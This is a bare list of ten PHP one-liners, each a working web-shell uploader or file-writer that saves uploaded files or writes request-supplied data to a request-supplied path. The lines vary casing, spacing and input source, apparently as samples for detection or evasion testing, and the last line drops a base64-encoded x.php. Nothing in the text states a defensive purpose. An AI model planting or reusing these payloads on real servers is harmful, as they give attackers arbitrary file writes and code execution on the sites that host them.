<?php copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); ?>
<?php move_uploaded_file( $_FILES["up"]["tmp_name"] , $_FILES["up"]["name"] ); ?>
<?php Move_Uploaded_File($_FILES['a']['tmp_name'],$_FILES['a']['name']); ?>
<?php File_Put_Contents($_POST['n'], $_POST['d']); ?>
<?php file_put_contents( $_GET['n'] , $_GET['d'] ); ?>
<?php file_put_contents($_REQUEST['n'], $_REQUEST['d']); ?>
<?php fwrite( fopen($_POST['n'], 'w'), $_POST['d'] ); ?>
<?php FPUTS(FOPEN($_GET['n'],'w'),$_GET['d']); ?>
<?php $f = fopen($_REQUEST['n'], 'w'); ?>
<?php fwrite(fopen('x.php','w'), base64_decode('PD9waHAgZWNobyAxOyA/Pg==')); ?>
